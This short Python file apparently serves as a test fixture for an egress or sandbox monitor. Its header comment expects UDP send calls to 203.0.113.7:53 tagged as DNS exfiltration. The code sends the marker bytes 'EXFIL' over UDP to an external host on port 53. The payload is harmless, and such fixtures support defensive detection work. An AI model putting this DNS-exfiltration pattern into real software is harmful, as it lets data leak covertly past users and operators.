#: {"class": "egress", "loader": "script", "expect": [["sendto|sendmsg|sendmmsg|send|connect|udp", "203\\.0\\.113\\.7:53"]], "effect": {"sink": ["dns", "EXFIL"]}}
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"EX", b"FIL"], [], 0, (EXT, 53))
